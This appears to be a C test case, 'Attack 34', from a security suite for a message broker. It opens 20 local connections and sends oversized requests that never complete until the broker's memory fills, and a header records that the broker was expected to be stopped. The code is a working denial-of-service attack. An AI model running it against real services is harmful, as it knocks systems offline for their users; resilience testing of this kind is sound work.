/*
 * Attack 34: requests that never come to their end, on many connections, until the memory of the broker is full.
 * Expected: made the broker keep more than 2 MiB and was stopped
 * Needs: the broker's memory
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    static char block[1 << 20];
    const unsigned char head[4] = { 6, 0, 0, 0 }; /* 96 MiB are to come */
    const char *port = strrchr(getenv("BOOTSTRAP"), ':') + 1;
    struct sockaddr_in broker = { .sin_family = AF_INET,
                                  .sin_port = htons((uint16_t)strtol(port, NULL, 10)) };
    inet_pton(AF_INET, "127.0.0.1", &broker.sin_addr);
    for (int connection = 0; connection < 20; connection++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (struct sockaddr *)&broker, sizeof(broker)) < 0 ||
            send(fd, head, sizeof(head), 0) < 0) {
            perror("the broker");
            return 1;
        }
        for (int i = 0; i < 95; i++) {
            if (send(fd, block, sizeof(block), MSG_NOSIGNAL) < 0) {
                perror("sending");
                return 1;
            }
        }
    }
    sleep(5);
    return 0;
}
